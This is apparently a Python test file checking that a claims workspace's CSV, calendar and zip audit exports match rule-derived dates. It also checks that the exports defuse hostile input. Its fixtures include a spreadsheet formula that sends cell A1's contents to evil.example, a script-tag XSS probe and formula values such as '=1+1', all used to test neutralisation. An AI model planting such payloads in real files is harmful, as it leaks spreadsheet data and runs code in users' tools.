"""The files the workspace page hands out, read back by Python: the claim list (csv), the
reminders (icalendar) and the audit bundle (zipfile), each checked against the dates the
browser's rule modules give each claim (their own golden cases are the workspace vectors).
The browser modules make the files, run by node."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

from icalendar import Calendar

from generator.timing import cutoff

from .conftest import ROOT
from .js_rules import DATA, HERE, RULES, js

TOOLS = str(HERE / "js" / "run_workspace_tools.js")
NOW = "2026-09-01T10:00:00.000Z"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open"), "quoted"; a,b\r\n'
    "line two <script>alert(1)</script>"
)
CLAIM_HEADER = [
    "Claim name", "Claim number", "Activity", "Usage period", "Start", "End", "Currency",
    "Planned amount", "Claimed", "Approved", "Paid", "Status", "Claim by", "Claim deadline",
    "Resolution deadline", "Next action", "Next action due", "Proof done", "Notes", "Status dates",
]  # fmt: skip


def run_node(*args: str) -> bytes:
    """Runs tests/js/run_workspace_tools.js and returns its output as bytes (CRLF kept)."""
    found = shutil.which("node")
    assert found is not None, "node is needed to run the workspace's browser modules."
    done = subprocess.run(
        [found, TOOLS, *args], capture_output=True, check=False, timeout=120, cwd=ROOT
    )
    assert done.returncode == 0, (done.stdout + done.stderr).decode()
    return done.stdout


def _write(folder: Path, name: str, value: Any) -> str:
    path = folder / name
    path.write_text(json.dumps(value), encoding="utf-8")
    return str(path)


def replay(folder: Path, steps: list[list[Any]]) -> str:
    """The workspace file that workspace.js's reducers make from ``steps`` (see the tool)."""
    return run_node(
        "replay", _write(folder, "data.json", DATA), _write(folder, "steps.json", steps)
    ).decode("utf-8")


def _boxes(activity: str) -> list[tuple[str, str]]:
    """(id, hash) of each tick box of an activity's portal checklist."""
    found = []
    for section in DATA["activities"][activity]["checklist"]["sections"]:
        for entry in section["entries"]:
            for box in entry.get("options") or [entry]:
                found.append((box["id"], box["hash"]))
    return found


def busy_steps() -> list[list[Any]]:
    """One claim in every status of the rules, over several periods and activities, with
    ticks, evidence, a hostile claim, a deleted claim and funds."""
    activities = sorted(DATA["activities"])
    starts = ["2026-07-10", "2026-09-01", "2027-01-05", "2026-02-01", "2031-03-01", "2026-12-20"]
    report = {"source": "earnings", "earned": 12500.5}
    steps: list[list[Any]] = [
        ["setFunds", "FY27H1", 40000, "@2026-07-01"],
        ["setFunds", "FY27H2", 12500.5, "@2026-07-01", "USD", report],
    ]
    for i, status in enumerate(DATA["statuses"]):
        start = date.fromisoformat(starts[i % len(starts)])
        end = start.replace(day=min(start.day + 20, 28))
        fields: dict[str, Any] = {
            "name": f"INV-{i} campaign",
            "activity": activities[i % len(activities)],
            "start": start.isoformat(),
            "end": end.isoformat(),
            "amount": 1000 + i,
            "status": status["id"],
        }
        if i % 4 == 1:
            fields["claimed"] = 900 + i
        steps.append(["addClaim", fields, "@2026-08-01", f"c{i}"])
        box, digest = _boxes(fields["activity"])[0]
        steps.append(["tick", f"c{i}", box, digest, "@2026-08-02"])
        entry = {"file": f"share/{i}.pdf", "note": "n"}
        steps.append(["addEvidence", f"c{i}", box, entry, "@2026-08-02", f"e{i}"])
    # An activity that ends after the usage period it is booked on: claim by = the deadline.
    late = {"activity": activities[0], "start": "2026-12-01", "end": "2027-01-20", "amount": 5}
    evil = {**late, "name": HOSTILE, "claim_number": "=1+1", "notes": HOSTILE}
    booked = {**late, "name": "Late", "usage_period": "FY27H1"}
    steps.append(["addClaim", booked, "@2026-08-01", "late"])
    steps.append(["addClaim", evil, "@2026-08-01", "evil"])
    entry = {"file": "@SUM(A1)", "note": HOSTILE}
    box = _boxes(activities[0])[0][0]
    steps.append(["addEvidence", "evil", box, entry, "@2026-08-03", "e-evil"])
    steps.append(["addClaim", {**late, "name": "Gone"}, "@2026-08-01", "gone"])
    steps.append(["deleteClaim", "gone", "@2026-08-04"])
    return steps


def _rules(workspace: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Per claim id: its usage period, timing (claimBy, claimDeadline, resolutionDeadline),
    stage and keep-until date, as the browser's rule modules (workspace.js) give them."""
    calls = []
    for claim in workspace["claims"]:
        for fn in ("claimUsage", "claimTiming", "stageOf", "keepUntil"):
            calls.append(("workspace", fn, claim, "$data"))
    found = js(*calls)
    return {
        claim["id"]: dict(
            zip(("usage", "timing", "stage", "keep"), found[4 * i : 4 * i + 4], strict=True)
        )
        for i, claim in enumerate(workspace["claims"])
    }


def _inert(text: str) -> str:
    """What a spreadsheet cell holds for ``text``: an apostrophe before a formula's start."""
    return "'" + text if text[:1] in "=+-@\t\r" else text


def test_claim_list_csv_reads_back_with_the_rules_claim_by_dates(tmp_path: Path) -> None:
    """The claim list has a BOM, CRLF row ends and the header Excel users see; Python's csv
    reads one row per claim, and each "Claim by" is the rules' claim-by date for its dates."""
    workspace = json.loads(replay(tmp_path, busy_steps()))
    args = (_write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace))
    raw = run_node("csv", *args)
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == CLAIM_HEADER
    found = [dict(zip(CLAIM_HEADER, row, strict=True)) for row in rows[1:]]
    assert len(found) == len(workspace["claims"]) > len(DATA["statuses"])
    # Outside quoted values every row ends with CRLF: re-joining the rows so gives the file.
    joined = io.StringIO()
    csv.writer(joined, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
    assert text.count("\r\n") == joined.getvalue().count("\r\n")
    assert "\n" not in text.replace("\r\n", "").replace(HOSTILE.replace("\r\n", ""), "")
    claim_bys = set()
    rules = _rules(workspace)
    for claim, row in zip(workspace["claims"], found, strict=True):
        usage, timing = rules[claim["id"]]["usage"], rules[claim["id"]]["timing"]
        assert row["Claim name"] == _inert(claim["name"])
        assert row["Usage period"] == usage == timing["period"]
        assert row["Claim by"] == timing["claimBy"], claim["name"]
        assert row["Claim deadline"] == timing["claimDeadline"]
        assert row["Resolution deadline"] == timing["resolutionDeadline"]
        claim_bys.add(timing["claimBy"] == timing["claimDeadline"])
    assert claim_bys == {True, False}, "both the 45-day advice and the deadline itself apply"


def test_reminders_follow_the_rules_for_claims_in_each_stage(tmp_path: Path) -> None:
    """For a claim in every status: to plan or submit -> its claim-by date and, when later,
    its claim deadline; waiting on a review or an answer -> its resolution deadline; approved,
    paid or closed -> no reminder; days already gone by -> none. Each reminder ends at the
    rules' cut-off of that day."""
    workspace = json.loads(replay(tmp_path, busy_steps()))
    text = run_node(
        "ics", _write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace), NOW
    )
    events = {str(e["UID"]): e for e in Calendar.from_ical(text).walk("VEVENT")}
    expected = {}
    rules = _rules(workspace)
    for claim in workspace["claims"]:
        stage, timing = rules[claim["id"]]["stage"], rules[claim["id"]]["timing"]
        claim_by, claim_deadline = (
            date.fromisoformat(timing[k]) for k in ("claimBy", "claimDeadline")
        )
        if stage in ("plan", "draft"):
            expected[f"{claim['id']}-claim-by@coop-portal"] = claim_by
            if claim_deadline != claim_by:
                expected[f"{claim['id']}-claim-deadline@coop-portal"] = claim_deadline
        elif stage in ("review", "action"):
            resolution = date.fromisoformat(timing["resolutionDeadline"])
            expected[f"{claim['id']}-resolution@coop-portal"] = resolution
    today = date.fromisoformat(NOW[:10])
    gone = {uid for uid, day in expected.items() if day < today}
    expected = {uid: day for uid, day in expected.items() if day >= today}
    assert not gone & set(events), "a reminder of a day gone by"
    assert set(events) == set(expected)
    for uid, day in expected.items():
        assert events[uid].decoded("DTEND") == cutoff(day, RULES), uid
    stages = {r["stage"] for r in rules.values()}
    assert stages == {s.id for s in RULES.claim_process.stages}


def test_audit_bundle_opens_in_python_with_inert_text_and_the_rules_keep_dates(
    tmp_path: Path,
) -> None:
    """The audit bundle is a zip whose CRCs check; its three CSV files read back with Python's
    csv, a hostile claim's name, number, file and note (and in its log of changes, the values
    before and after) come back as the same inert text, and every "Keep until" is the rules'
    keep-until date of its claim's usage period."""
    text = replay(tmp_path, busy_steps())
    workspace = json.loads(text)
    hostile = next(c for c in workspace["claims"] if c["name"] == HOSTILE)
    hostile["changes"] = [
        {"at": NOW, "kind": "created", "to": "planned"},
        {"at": NOW, "kind": "field", "field": "claim_number", "from": "-2", "to": "=1+1"},
    ]
    out = tmp_path / "bundle.zip"
    args = (_write(tmp_path, "data.json", DATA), _write(tmp_path, "w.json", workspace))
    run_node("bundle", *args, NOW, "2026-09-01", str(out))
    with zipfile.ZipFile(out) as archive:
        assert archive.testzip() is None
        assert archive.namelist() == [
            "workspace.json", "evidence.csv", "claims.csv", "changes.csv", "reminders.ics",
            "README.txt",
        ]  # fmt: skip
        assert {i.date_time for i in archive.infolist()} == {(2026, 9, 1, 0, 0, 0)}
        files = {name: archive.read(name) for name in archive.namelist()}
    assert json.loads(files["workspace.json"]) == workspace

    def table(name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(files[name].decode("utf-8-sig"), newline="")))

    claims = {c["name"]: c for c in workspace["claims"]}
    rules = _rules(workspace)
    evidence = table("evidence.csv")
    assert {row["Claim name"] for row in evidence} == {_inert(n) for n in claims}
    for row in evidence:
        claim = next(c for n, c in claims.items() if _inert(n) == row["Claim name"])
        assert row["Usage period"] == rules[claim["id"]]["usage"]
        assert row["Keep until"] == rules[claim["id"]]["keep"]
    logged = [r for r in evidence if r["Claim name"] == _inert(HOSTILE) and r["File or location"]]
    assert [(r["File or location"], r["Note"]) for r in logged] == [("'@SUM(A1)", _inert(HOSTILE))]
    listed = [r for r in table("claims.csv") if r["Claim name"] == _inert(HOSTILE)]
    assert [(r["Claim number"], r["Notes"]) for r in listed] == [("'=1+1", _inert(HOSTILE))]
    changes = table("changes.csv")
    assert [(r["Claim name"], r["Kind"], r["From"], r["To"]) for r in changes] == [
        (_inert(HOSTILE), "created", "", "planned"),
        (_inert(HOSTILE), "field", "'-2", "'=1+1"),
    ]
    assert changes[1]["What changed"] == "Claim number changed from -2 to =1+1."
    assert changes[1]["When (UTC)"] == NOW
    readme = files["README.txt"].decode("utf-8")
    for usage, keep in {(r["usage"], r["keep"]) for r in rules.values()}:
        assert f"- usage period {usage}: until {keep} (" in readme
    assert f"{RULES.money.poe_retention.months} months" in readme
